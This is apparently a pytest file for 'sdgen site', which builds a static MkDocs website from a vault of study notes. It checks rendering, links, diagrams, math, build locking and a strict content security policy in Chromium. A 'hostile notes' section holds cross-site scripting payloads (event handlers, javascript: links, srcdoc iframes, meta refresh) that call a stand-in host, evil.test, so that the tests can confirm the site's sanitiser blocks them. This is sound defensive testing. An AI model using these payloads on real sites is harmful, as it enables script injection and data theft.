"""`sdgen site`: the demo vault as a static website, checked in a real browser (Chromium).

The browser tests drive the system's Chromium (Debian's ``chromium``) through Playwright (the
``browser`` fixture of conftest.py). A screenshot of a drawn diagram is kept in
``build/artifacts/`` (or $SDGEN_ARTIFACTS) for a person to open.
"""

from __future__ import annotations

import contextlib
import functools
import html
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sdgen.cli import run
from sdgen.site import build_site, site_pages

ROOT = Path(__file__).resolve().parents[1]
INDEX = ROOT / "examples" / "topics.yaml"
RECORDINGS = ROOT / "examples" / "recordings"
ARTIFACTS = Path(os.environ.get("SDGEN_ARTIFACTS") or ROOT / "build" / "artifacts")
CALLOUT = re.compile(r"^(?:>\s?)+\[![\w-]+\]", re.MULTILINE)
FENCE = re.compile(r"^(`{3,}|~{3,})([^\n]*)\n.*?^\1[ \t]*$", re.MULTILINE | re.DOTALL)


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo vault: seven notes of the five personas, replayed offline."""
    out = tmp_path_factory.mktemp("vault") / "output"
    assert run(["generate", "--index", str(INDEX), "--replay", str(RECORDINGS), "--out",
                str(out), "-q"]) == 0
    return out


@pytest.fixture(scope="module")
def site(vault: Path) -> Path:
    folder = vault.parent / "site"
    result = build_site(vault, folder, source=vault.parent / "site-source")
    assert result.problems == [] and result.warnings == []
    return folder


# Without a browser.

def test_demo_site_has_every_page_in_vault_order(vault: Path, site: Path) -> None:
    pages = site_pages(vault)
    assert [p.page for p in pages][:3] == ["index.md", "emoji/index.md",
                                           "emoji/caching/content-delivery-network.md"]
    assert {p.page.split("/")[0] for p in pages if not p.index} == {
        "emoji", "interview", "obsidian", "senior", "visual"}
    for page in pages:
        assert (site / page.url).is_file(), page.url
    assert (site / "assets" / "mermaid.min.js").is_file()
    assert not list(site.rglob("*.md")), "the site serves pages, not the notes' Markdown"
    html = (site / "index.html").read_text()
    nav = " ".join(re.sub(r"<[^>]+>", " ", html[html.index("md-nav--primary"):
                                                 html.index('class="md-content')]).split())
    # Home, then persona, category and note, in index order.
    order = [nav.index(t) for t in (" Home ", " emoji ", "Content Delivery Network", " interview ",
                                    " senior ", "Consistent Hashing", "Idempotent Writes")]
    assert order == sorted(order)


def test_front_matter_is_shown_deliberately(vault: Path, site: Path) -> None:
    html = (site / "obsidian/scalability-patterns/rate-limiter.html").read_text()
    assert '<p class="sdgen-properties">obsidian · Scalability Patterns · claude' in html
    assert "persona/obsidian" in html  # a tag a reader can see
    for hidden in ("body_hash", "input_hash", "prompt_hash", "input_tokens"):
        assert hidden not in html


def test_mkdocs_strict_build_of_the_kept_source_has_no_warning(site: Path) -> None:
    source = site.parent / "site-source"
    built = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f",
                            str(source / "mkdocs.yml"), "-d", str(site.parent / "strict-site")],
                           capture_output=True, text=True, env={**os.environ,
                                                                "NO_MKDOCS_2_WARNING": "1"})
    assert built.returncode == 0, built.stderr
    assert "WARNING" not in built.stderr


def test_a_broken_diagram_is_reported_by_note_and_page_and_the_site_builds(
        vault: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = tmp_path / "vault"
    shutil.copytree(vault, broken)
    note = broken / "obsidian" / "scalability-patterns" / "rate-limiter.md"
    text = note.read_text()
    start = text.index("```mermaid\n") + len("```mermaid\n")
    note.write_text(text[:start] + "flowchart LR\n  A[Load Balancer (L7)] --> B\n" +
                    text[text.index("```", start):])
    code = run(["site", "--out", str(broken), "--site", str(tmp_path / "site")])
    captured = capsys.readouterr()
    assert code == 0
    line = text[:start].count("\n") + 2  # the diagram's second line, in the note
    assert (f"problem: {note}:{line}: a Mermaid diagram does not parse" in captured.err)
    assert "(page obsidian/scalability-patterns/rate-limiter.html)" in captured.err
    assert (tmp_path / "site" / "obsidian/scalability-patterns/rate-limiter.html").is_file()
    assert run(["site", "--out", str(broken), "--site", str(tmp_path / "site"), "--strict"]) == 1


def test_site_refuses_to_replace_a_folder_it_did_not_build(vault: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    precious = tmp_path / "docs"
    precious.mkdir()
    (precious / "thesis.txt").write_text("mine")
    assert run(["site", "--out", str(vault), "--site", str(precious)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.endswith("exists and is not a folder sdgen site wrote; choose another")
    assert (precious / "thesis.txt").read_text() == "mine" and len(err.splitlines()) == 1


def test_heading_and_alias_links_reach_their_targets(vault: Path, tmp_path: Path) -> None:
    """Wikilinks to a heading, and the GitHub-style anchors models write in their tables of
    contents, land on the heading (mkdocs validates every anchor: no warning); a wikilink by a
    note's alias reaches the note."""
    copy = tmp_path / "vault"
    shutil.copytree(vault, copy)
    note = copy / "senior" / "scalability-patterns" / "consistent-hashing.md"
    text = note.read_text().replace("aliases:\n", "aliases:\n  - Hash Ring\n", 1)
    note.write_text(text + "\nSee [[obsidian/scalability-patterns/rate-limiter#1. 🎯 "
                    "System Overview|the overview]] and [back to the top](#consistent-hashing).\n")
    cdn = copy / "emoji" / "caching" / "content-delivery-network.md"
    cdn.write_text(cdn.read_text() + "\nServers are placed on a [[Hash Ring]].\n")
    result = build_site(copy, tmp_path / "site")
    assert result.clean, (result.problems, result.warnings)
    html = (tmp_path / "site" / "senior/scalability-patterns/consistent-hashing.html").read_text()
    assert 'href="../../obsidian/scalability-patterns/rate-limiter.html#1--system-overview"' in html
    target = (tmp_path / "site" / "obsidian/scalability-patterns/rate-limiter.html").read_text()
    assert 'id="1--system-overview"' in target
    by_alias = (tmp_path / "site" / "emoji/caching/content-delivery-network.html").read_text()
    assert 'href="../../senior/scalability-patterns/consistent-hashing.html">Hash Ring</a>' in by_alias


def test_a_vault_without_its_home_note_gets_one_in_the_site(vault: Path, tmp_path: Path) -> None:
    copy = tmp_path / "vault"
    shutil.copytree(vault, copy)
    (copy / "index.md").unlink()
    result = build_site(copy, tmp_path / "site")
    assert result.clean and not (copy / "index.md").exists()  # the vault is not written to
    assert "senior/index.html" in (tmp_path / "site" / "index.html").read_text()


def test_a_rebuild_replaces_the_site_whole(vault: Path, tmp_path: Path) -> None:
    folder = tmp_path / "site"
    build_site(vault, folder)
    (folder / "stale.html").write_text("old")
    build_site(vault, folder)
    assert not (folder / "stale.html").exists() and (folder / "index.html").is_file()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".sdgen-site-")]


def test_without_mkdocs_material_one_line_says_how_to_install(
        vault: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setitem(sys.modules, "material", None)  # import material -> ImportError
    assert run(["site", "--out", str(vault), "--site", "site"]) == 2
    err = capsys.readouterr().err
    assert err == "sdgen: error: sdgen site needs mkdocs-material: pip install 'sdgen[site]'\n"
    assert not Path("site").exists()


def test_an_empty_folder_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "empty").mkdir()
    assert run(["site", "--out", str(tmp_path / "empty")]) == 2
    assert "no notes to publish" in capsys.readouterr().err


# In a browser.

class _Server(http.server.ThreadingHTTPServer):
    request_queue_size = 64  # above the browser's parallel requests: no dropped SYNs
    daemon_threads = True


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def served(site: Path) -> Iterator[str]:
    server = _Server(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


class _Visit:
    """One page opened in the browser, with what it logged and asked for."""

    def __init__(self, browser: Any, base: str) -> None:
        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
        self.errors: list[str] = []
        self.foreign: list[str] = []
        self.base = base
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))

    def _route(self, route: Any) -> None:
        url = route.request.url
        if url.startswith(self.base) or url.startswith(("data:", "blob:", "file:")):
            route.continue_()
        else:
            self.foreign.append(url)
            route.abort()

    def open(self, url: str, timeout: int = 20_000) -> Any:
        self.page.goto(url)
        self.page.wait_for_selector("html[data-diagrams=drawn]", state="attached",
                                    timeout=timeout)
        return self.page

    def close(self) -> None:
        self.context.close()


def _diagram_count(note: Path) -> int:
    return sum(1 for m in FENCE.finditer(note.read_text()) if m.group(2).strip() == "mermaid")


def _callout_count(note: Path) -> int:
    text = FENCE.sub("", note.read_text())
    return len(CALLOUT.findall(text))


def test_every_page_renders_in_a_browser(vault: Path, served: str, browser: Any) -> None:
    visit = _Visit(browser, served)
    checked_links: set[str] = set()
    totals = {"diagrams": 0, "callouts": 0, "links": 0}
    try:
        for page_info in site_pages(vault):
            page = visit.open(served + page_info.url)
            where = page_info.url
            diagrams = _diagram_count(page_info.source)
            assert page.locator("div.mermaid-diagram").count() == diagrams, where
            assert page.locator("div.mermaid-diagram > svg").count() == diagrams, where
            assert page.locator('svg[aria-roledescription="error"]').count() == 0, where
            assert "Syntax error in text" not in page.inner_text("body"), where
            callouts = _callout_count(page_info.source)
            admonitions = page.locator("article .admonition, article details").count()
            assert admonitions == callouts, where
            assert not re.search(r"\[![\w-]+\]", page.inner_text("article")), where
            totals["diagrams"] += diagrams
            totals["callouts"] += callouts
            hrefs = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
            for href in hrefs:
                url = href.split("#", 1)[0]
                if not url.startswith(served) or url in checked_links:
                    continue
                with urllib.request.urlopen(url) as answer:
                    assert answer.status == 200, (where, url)
                checked_links.add(url)
        totals["links"] = len(checked_links)
        assert visit.errors == []
        assert visit.foreign == []
    finally:
        visit.close()
    # The demo holds diagrams, callouts and links: the checks above checked something.
    assert totals["diagrams"] >= 3 and totals["callouts"] >= 3 and totals["links"] >= 13, totals


def test_search_finds_a_note(served: str, browser: Any) -> None:
    visit = _Visit(browser, served)
    try:
        page = visit.open(served + "index.html")
        page.click("input.md-search__input")
        page.keyboard.type("consistent hashing")  # typed: the search listens to keys
        page.locator(".md-search-result__item a").first.wait_for(timeout=10_000)
        page.wait_for_timeout(300)  # results arrive as the worker finishes the query
        hrefs = page.eval_on_selector_all(".md-search-result__item a", "els => els.map(e => e.href)")
        assert any("senior/scalability-patterns/consistent-hashing.html" in h for h in hrefs), hrefs
        assert visit.errors == [] and visit.foreign == []
    finally:
        visit.close()


def test_emoji_boxes_keep_their_right_edge(vault: Path, served: str, browser: Any) -> None:
    """A box whose lines hold emoji: each line's closing bar stands in one column."""
    visit = _Visit(browser, served)
    try:
        page = visit.open(served + "emoji/caching/content-delivery-network.html")
        edges = page.evaluate("""() => {
            const code = [...document.querySelectorAll('pre > code')]
                .find(c => c.textContent.includes('Edge PoP'));
            const lines = [];
            const walker = document.createTreeWalker(code, NodeFilter.SHOW_TEXT);
            const range = document.createRange();
            while (walker.nextNode()) {
                const node = walker.currentNode;
                for (let i = 0; i < node.nodeValue.length; i++) {
                    if (node.nodeValue[i] !== '│') continue;
                    range.setStart(node, i); range.setEnd(node, i + 1);
                    const box = range.getBoundingClientRect();
                    lines.push([Math.round(box.top), Math.round(box.left)]);
                }
            }
            return lines;
        }""")
        rows: dict[int, list[int]] = {}
        for top, left in edges:
            rows.setdefault(top, []).append(left)
        boxed = [sorted(lefts) for lefts in rows.values() if len(lefts) == 6]
        assert len(boxed) >= 3, rows  # the three lines of the three Edge PoP boxes
        for column in zip(*boxed, strict=True):
            assert max(column) - min(column) <= 1, boxed
    finally:
        visit.close()


def test_a_diagram_is_drawn_as_a_picture(served: str, browser: Any) -> None:
    from PIL import Image

    visit = _Visit(browser, served)
    try:
        page = visit.open(served + "obsidian/scalability-patterns/rate-limiter.html")
        page.add_style_tag(content=".md-header { display: none; }")  # it would cover the top
        diagram = page.locator("div.mermaid-diagram > svg").first
        diagram.scroll_into_view_if_needed()
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        shot = ARTIFACTS / "site-diagram.png"
        diagram.screenshot(path=str(shot))
    finally:
        visit.close()
    with Image.open(shot) as image:
        pixels = image.convert("L")
        width, height = pixels.size
        histogram = pixels.histogram()
    assert width > 100 and height > 100
    background = max(histogram)
    assert background < 0.97 * width * height, "the picture is blank"
    assert sum(1 for count in histogram if count) > 16, "the picture is flat"


def test_the_site_opens_from_a_file_share(site: Path, browser: Any) -> None:
    """No server: pages open as files, diagrams drawn, nothing asked of another host."""
    visit = _Visit(browser, "file://")
    try:
        page = visit.open((site / "obsidian/scalability-patterns/rate-limiter.html").as_uri())
        assert page.locator("div.mermaid-diagram > svg").count() == 3
        page.click("text=Scalability Patterns >> nth=0")
        assert visit.errors == [] and visit.foreign == []
    finally:
        visit.close()


def test_math_is_drawn_by_the_sites_own_katex(vault: Path, tmp_path: Path, browser: Any) -> None:
    """$...$ and $$...$$ are drawn as Obsidian draws them, with KaTeX served from the site; a
    price in dollars stays words."""
    copy = tmp_path / "vault"
    shutil.copytree(vault, copy)
    note = copy / "senior" / "messaging" / "idempotent-writes.md"
    note.write_text(note.read_text() + "\nPeak load is $QPS = \\frac{DAU \\times r}{86400}$ at most."
                    "\n\n$$\nP(\\text{dup}) = 1 - e^{-n^2 / 2m}\n$$\n\nIt costs $5 a month and $10 a year.\n")
    result = build_site(copy, tmp_path / "site")
    assert result.clean, (result.problems, result.warnings)
    visit = _Visit(browser, "file://")
    try:
        page = visit.open((tmp_path / "site" / "senior/messaging/idempotent-writes.html").as_uri())
        page.wait_for_selector(".arithmatex .katex", state="attached")
        assert page.locator("span.arithmatex .katex").count() == 1
        assert page.locator("div.arithmatex .katex-display").count() == 1
        assert page.locator(".katex-error").count() == 0
        assert "It costs $5 a month and $10 a year." in page.inner_text("article")
        assert visit.errors == [] and visit.foreign == []
    finally:
        visit.close()


def test_the_browser_draws_what_the_diagram_check_rejects_as_an_error(
        vault: Path, tmp_path: Path, browser: Any) -> None:
    """The site is the last diagram check: Mermaid in the page agrees with sdgen's verdict."""
    broken = tmp_path / "vault"
    shutil.copytree(vault, broken)
    note = broken / "senior" / "scalability-patterns" / "consistent-hashing.md"
    note.write_text(note.read_text() + "\n```mermaid\nflowchart LR\n  A[Load Balancer (L7)] --> B\n```\n")
    result = build_site(broken, tmp_path / "site")
    assert [p.page for p in result.problems] == ["senior/scalability-patterns/consistent-hashing.html"]
    visit = _Visit(browser, "file://")
    try:
        page = visit.open((tmp_path / "site" / result.problems[0].page).as_uri())
        assert page.locator('svg[aria-roledescription="error"]').count() == 1
        text = page.inner_text("body")
        pinned = json.loads((ROOT / "mermaid-bundle" / "package.json").read_text())
        # Mermaid's error picture names the Mermaid drawing it: the one the content check pins.
        assert "Syntax error in text" in text
        assert f"mermaid version {pinned['dependencies']['mermaid']}" in text
    finally:
        visit.close()


def test_a_category_or_title_named_like_a_config_tag_builds(vault: Path, tmp_path: Path) -> None:
    """The mkdocs configuration is data: a category ``GITHUB_SLUGS`` and a note titled
    ``MERMAID_FENCE`` are words in the navigation, and the kept source builds by hand."""
    copy = tmp_path / "vault"
    shutil.copytree(vault, copy)
    note = copy / "obsidian" / "scalability-patterns" / "rate-limiter.md"
    note.write_text(note.read_text().replace("title: Rate Limiter", "title: MERMAID_FENCE", 1)
                    .replace("category: Scalability Patterns", "category: GITHUB_SLUGS", 1))
    result = build_site(copy, tmp_path / "site", source=tmp_path / "source")
    assert result.clean, (result.problems, result.warnings)
    home = (tmp_path / "site" / "index.html").read_text()
    assert "GITHUB_SLUGS" in home and "MERMAID_FENCE" in home
    rebuilt = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-f",
                              str(tmp_path / "source" / "mkdocs.yml"), "-d", str(tmp_path / "again")],
                             capture_output=True, text=True, env={**os.environ,
                                                                  "NO_MKDOCS_2_WARNING": "1"})
    assert rebuilt.returncode == 0, rebuilt.stderr
    page = (tmp_path / "again" / "obsidian/scalability-patterns/rate-limiter.html").read_text()
    assert 'class="mermaid-diagram"' in page  # the fence still formats diagrams
    assert 'id="1--system-overview"' in page  # and headings keep GitHub's slugs


def _site_command(vault: Path, site: Path) -> list[str]:
    return [sys.executable, "-m", "sdgen", "site", "--out", str(vault), "--site", str(site),
            "--no-diagram-check", "-q"]


def test_builds_into_one_site_at_once_all_succeed(vault: Path, tmp_path: Path) -> None:
    """Real processes, started together, build into one ``--site``: each succeeds (one waits
    for the other), no traceback, and the site is whole afterwards."""
    shared = tmp_path / "shared"
    site = shared / "site"
    for _ in range(3):
        runs = [subprocess.Popen(_site_command(vault, site), stdout=subprocess.DEVNULL,
                                 stderr=subprocess.PIPE, text=True) for _ in range(4)]
        outcomes = [(run.communicate(timeout=300)[1], run.returncode) for run in runs]
        assert outcomes == [("", 0)] * 4, outcomes
        assert (site / "index.html").is_file() and (site / ".sdgen-site").is_file()
    # Nothing left beside the site but the lock file the builds share.
    assert sorted(p.name for p in shared.iterdir()) == [".site.sdgen-lock", "site"]


def test_a_build_waits_while_another_holds_the_site(vault: Path, tmp_path: Path) -> None:
    """A second build of one ``--site`` waits for the first (here: the test, holding the
    site's lock): it writes nothing meanwhile, and builds once the lock is let go."""
    import fcntl

    site = tmp_path / "site"
    lock = tmp_path / ".site.sdgen-lock"
    with lock.open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        build = subprocess.Popen(_site_command(vault, site), stdout=subprocess.DEVNULL,
                                 stderr=subprocess.PIPE, text=True)
        fd_folder = Path(f"/proc/{build.pid}/fd")
        try:
            for _ in range(600):  # until the build has the lock file open: it waits on it
                if build.poll() is not None:
                    break
                with contextlib.suppress(OSError):
                    if any(os.readlink(fd) == str(lock) for fd in fd_folder.iterdir()):
                        break
                time.sleep(0.1)
            assert build.poll() is None, build.communicate()
            assert not site.exists()  # it waits before writing anything
        except BaseException:
            build.kill()
            build.communicate()
            raise
    _, err = build.communicate(timeout=300)
    assert build.returncode == 0 and err == "", err
    assert (site / "index.html").is_file()


# Hostile notes: what a model may write, and a page must never run.

PWN = "window.__pwned=1;alert(1);fetch('http://evil.test/x')"
HOSTILE_NOTES = {
    "details-ontoggle": f'<details open ontoggle="{PWN}"><summary>open</summary>x</details>\n',
    "split-tag": f'Before.\n<img src=x\nonerror="{PWN}">\nAfter.\n',
    "escaped-backticks": f"Not code: \\`<img src=x onerror=\"{PWN}\">\\` here.\n",
    "less-than-in-attribute": f'<div title="<" autofocus onfocus="{PWN}">focus me</div>\n',
    "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;parent.__pwned=1;parent.alert(1)'
                      '&lt;/script&gt;"></iframe>\n'),
    "attr-list": (f'A paragraph.\n{{: autofocus onfocus="{PWN}" tabindex="1" }}\n\n'
                  f'[x](#){{: onclick="{PWN}" onmouseover="{PWN}" }}\n\n'
                  f'## Heading {{: onmouseover="{PWN}" }}\n'),
    "hover-handler": f'<b onmouseover="{PWN}">hover</b> <span onmouseenter="{PWN}">me</span>\n',
    "meta-refresh": '<meta\nhttp-equiv="refresh" content="0;url=http://evil.test/">\n\nText.\n',
    "script-and-links": (f"<script>{PWN}</script>\n\n[click](javascript:{PWN}) "
                         f'<a href="javascript:{PWN}">a</a> <a href="data:text/html,<script>'
                         f'{PWN}</script>">d</a> <a href=" JaVaScRiPt:{PWN}">s</a>\n\n'
                         f"[ref][evil]\n\n[evil]: javascript:{PWN}\n"),
    "objects-forms-base": ('<object data="http://evil.test/o"></object>'
                           '<embed src="http://evil.test/e">'
                           '<form action="http://evil.test/f"><button>send</button></form>'
                           '<base href="http://evil.test/">'
                           '<link rel="stylesheet" href="http://evil.test/s.css">'
                           '<style>@import url(http://evil.test/i.css);</style>\n\n'
                           f'<svg onload="{PWN}"><a href="javascript:{PWN}"><text>t</text></a></svg>'
                           f'<math><mi href="javascript:{PWN}">m</mi></math>\n\n'
                           '<img src="http://evil.test/remote.png" alt="remote">\n'
                           '![remote](https://evil.test/r.png)\n'),
    "headings": (f'## <img src=x onerror="{PWN}"> Raw\n\n'
                 f'## &lt;img src=x onerror="{PWN}"&gt; Escaped\n\n'
                 f'## `<img src=x onerror="{PWN}">` Code\n\nText.\n'),
}
HOSTILE_FIELD = "<img src=x onerror=\"window.__pwned=1;alert(1)\">"
PROBE = """() => {
    const seen = [];
    document.querySelectorAll('article *').forEach((el) => {
        for (const kind of ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup',
                            'pointerover', 'focus', 'focusin']) {
            el.dispatchEvent(new Event(kind, { bubbles: kind !== 'mouseenter' }));
        }
        if (typeof el.focus === 'function') el.focus();
        if (el.tagName === 'DETAILS') el.open = !el.open;
        const href = el.getAttribute('href') || '';
        if (el.tagName !== 'A' || href === '#' || /^\\s*(javascript|data):/i.test(href)) {
            el.click();
        }
        seen.push(el.tagName);
    });
    return seen.length;
}"""


def _hostile_vault(vault: Path, folder: Path) -> Path:
    """The demo vault and one note of each hostile case (and one whose front matter is)."""
    copy = folder / "vault"
    shutil.copytree(vault, copy)
    notes = copy / "senior" / "hostile"
    notes.mkdir()
    for name, body in HOSTILE_NOTES.items():
        title = name.replace("-", " ").title()
        (notes / f"{name}.md").write_text(
            f"---\ntitle: {title}\ncategory: Hostile\npersona: senior\ntags:\n  - persona/senior\n"
            f"---\n\n# {title}\n\n{body}\nThe end.\n", encoding="utf-8")
    field = json.dumps(HOSTILE_FIELD)
    (notes / "front-matter.md").write_text(
        f"---\ntitle: {field}\ncategory: {field}\npersona: senior\nmodel: {field}\n"
        f"aliases:\n  - {field}\ntags:\n  - {field}\n---\n\n# Front matter\n\nBody.\n",
        encoding="utf-8")
    return copy


class _Probe(_Visit):
    """A visit that watches for script run by a note: ``window.__pwned``, a dialog, a
    navigation away from the page, a request to any other place."""

    def __init__(self, browser: Any, base: str) -> None:
        super().__init__(browser, base)
        self.dialogs: list[str] = []
        self.navigations: list[str] = []
        self.context.add_init_script("Object.defineProperty(window, '__pwned', {set(v) {"
                                     " document.documentElement.dataset.pwned = 'yes'; }});")
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("framenavigated",
                     lambda f: f.parent_frame is None and self.navigations.append(f.url))

    def sweep(self, url: str) -> dict[str, Any]:
        from playwright.sync_api import Error as PlaywrightError

        self.navigations.clear()
        try:
            self.open(url)
            swept = self.page.evaluate(PROBE)
        except PlaywrightError as exc:  # the page went away, or never drew: the note won
            return {"swept": 0, "broken": str(exc).splitlines()[0], "foreign": list(self.foreign),
                    "away": list(self.navigations), "dialogs": list(self.dialogs)}
        self.page.wait_for_timeout(300)  # a toggle event is dispatched after the toggle
        return {"swept": swept, "pwned": self.page.evaluate(
            "document.documentElement.dataset.pwned || null"),
            "dialogs": list(self.dialogs), "foreign": list(self.foreign),
            "away": [u for u in self.navigations if u.split("#")[0] != url]}


@pytest.fixture(scope="module")
def hostile_site(vault: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    result = build_site(_hostile_vault(vault, folder), folder / "site")
    assert result.problems == [], result.problems
    return folder / "site"


@pytest.fixture(scope="module")
def hostile_served(hostile_site: Path) -> Iterator[str]:
    server = _Server(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(hostile_site)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("over", ["http", "file"])
def test_no_note_runs_script_in_the_site(hostile_site: Path, hostile_served: str, browser: Any,
                                         over: str) -> None:
    """Every hostile case, loaded, hovered, focused, toggled and clicked over: no script of
    a note runs, no dialog opens, the page goes nowhere and asks no other host for anything."""
    base = hostile_served if over == "http" else hostile_site.as_uri() + "/"
    visit = _Probe(browser, base)
    try:
        outcomes: dict[str, dict[str, Any]] = {}
        for name in [*HOSTILE_NOTES, "front-matter"]:
            found = visit.sweep(f"{base}senior/hostile/{name}.html")
            outcomes[name] = {k: v for k, v in found.items() if k != "swept" and v}
            if not outcomes[name]:
                assert found["swept"] > 3, name  # the page has content: the sweep swept it
            visit.dialogs.clear()
            visit.foreign.clear()
        assert outcomes == {name: {} for name in outcomes}
    finally:
        visit.close()


def test_what_a_note_may_show_still_shows(hostile_site: Path, browser: Any) -> None:
    """The allowlist keeps formatting and takes out the rest: a hostile title is its words,
    an image on another host is a link, the words of a tag taken out stay."""
    visit = _Visit(browser, "file://")
    try:
        page = visit.open((hostile_site / "senior/hostile/front-matter.html").as_uri())
        assert page.locator("article h1").first.inner_text().rstrip("¶") == "Front matter"
        assert HOSTILE_FIELD in page.inner_text("article .sdgen-properties")
        assert HOSTILE_FIELD in page.inner_text("nav.md-nav--primary")  # title and category
        assert HOSTILE_FIELD in page.inner_text(".md-header__topic >> nth=1")
        page = visit.open((hostile_site / "senior/hostile/objects-forms-base.html").as_uri())
        links = page.eval_on_selector_all("article a[href*='evil.test']",
                                          "els => els.map(e => [e.href, e.textContent])")
        assert sorted(links) == [["http://evil.test/remote.png", "remote"],
                                 ["https://evil.test/r.png", "remote"]]
        assert page.locator("article img, article form, article object, article embed, "
                            "article svg, article iframe, article button").count() == 0
        assert "send" in page.inner_text("article")  # the button's words stay
        page = visit.open((hostile_site / "senior/hostile/headings.html").as_uri())
        toc = page.inner_text("nav.md-nav--secondary")
        assert "Raw" in toc and '<img src=x onerror="' in toc  # the escaped one, as words
        assert visit.foreign == []
    finally:
        visit.close()


def test_allowed_formatting_renders(vault: Path, tmp_path: Path) -> None:
    """Raw HTML a study note uses for formatting reaches the page; a diagram's text reaches
    Mermaid exactly as written; a task list's boxes stay boxes that cannot be used."""
    copy = tmp_path / "vault"
    shutil.copytree(vault, copy)
    note = copy / "senior" / "messaging" / "idempotent-writes.md"
    diagram = 'flowchart LR\n  A["a < b & \\"c\\""] -->|"x > y"| B{{C}}\n  %% note'
    note.write_text(note.read_text() + "\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, "
                    "x<sup>2</sup>, <mark>hot</mark>, <abbr title='Queries per second'>QPS</abbr>, "
                    "<del>old</del> <ins>new</ins> <s>gone</s>.<br>Next line.\n\n"
                    "> [!TIP] A tip\n> Inside.\n\n"
                    "- [x] done\n- [ ] open\n\nA claim.[^1]\n\n[^1]: The source.\n\n"
                    f"```mermaid\n{diagram}\n```\n")
    result = build_site(copy, tmp_path / "site")
    assert result.clean, (result.problems, result.warnings)
    page = (tmp_path / "site" / "senior/messaging/idempotent-writes.html").read_text()
    page = page[page.index("<article"):page.index("</article>")]
    for kept in ("<kbd>Ctrl</kbd>", "<sub>2</sub>", "<sup>2</sup>", "<mark>hot</mark>",
                 '<abbr title="Queries per second">QPS</abbr>', "<del>old</del>",
                 "<ins>new</ins>", "<s>gone</s>", "<br>", 'class="headerlink"',
                 'class="footnote"', 'href="#fn:1"', 'class="footnote-backref"',
                 'class="admonition', 'class="highlight"', 'class="task-list-item"'):
        assert kept in page, kept
    boxes = re.findall(r"<input[^>]*>", page)
    assert len(boxes) == 2 and all('type="checkbox"' in b and "disabled" in b for b in boxes)
    assert sum("checked" in b for b in boxes) == 1
    shown = re.findall(r'<div class="mermaid-diagram">(.*?)</div>', page, re.DOTALL)
    assert diagram in [html.unescape(text) for text in shown]


VIOLATIONS = ("document.addEventListener('securitypolicyviolation', (e) => {"
              " document.documentElement.dataset.violations = (document.documentElement.dataset"
              ".violations || '') + e.violatedDirective + ' ' + e.blockedURI + ';'; }, true);")


@pytest.mark.parametrize("over", ["http", "file"])
def test_the_strict_policy_blocks_nothing_the_site_runs(vault: Path, site: Path, served: str,
                                                        browser: Any, over: str) -> None:
    """Under the pages' strict Content Security Policy (no inline script), every page of the
    demo vault draws, and none meets a violation or logs an error; search works, from a file
    share too (its worker runs in a frame there)."""
    base = served if over == "http" else site.as_uri() + "/"
    visit = _Visit(browser, base)
    visit.context.add_init_script(VIOLATIONS)
    try:
        policy = ""
        for page_info in site_pages(vault):
            page = visit.open(base + page_info.url)
            policy = page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content")
            assert page.evaluate("document.documentElement.dataset.violations || ''") == "", \
                page_info.url
            assert page.evaluate("typeof window.__md_get") == "function"  # the theme's script ran
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
        for directive in ("object-src 'none'", "base-uri 'none'", "form-action 'none'"):
            assert directive in policy
        page = visit.open(base + "index.html")
        page.click("input.md-search__input")
        page.keyboard.type("consistent hashing")
        page.locator(".md-search-result__item a").first.wait_for(timeout=10_000)
        hrefs = page.eval_on_selector_all(".md-search-result__item a", "els => els.map(e => e.href)")
        assert any("senior/scalability-patterns/consistent-hashing.html" in h for h in hrefs), hrefs
        assert page.evaluate("document.documentElement.dataset.violations || ''") == ""
        assert visit.errors == [] and visit.foreign == []
    finally:
        visit.close()


def test_a_line_break_is_a_break_as_in_obsidian(served: str, browser: Any) -> None:
    """Obsidian shows a single line break as a break: the visual card's "Pros:" and "Cons:"
    lines stay two lines, not one run-on paragraph."""
    visit = _Visit(browser, served)
    try:
        page = visit.open(f"{served}/visual/caching/cache-aside-pattern.html")
        text = page.inner_text("article")
        assert "Invalidation logic lives in every writer" in text
        assert re.search(r"Simple to add to an existing app\n+Cons:", text)
        assert visit.errors == [] and visit.foreign == []
    finally:
        visit.close()
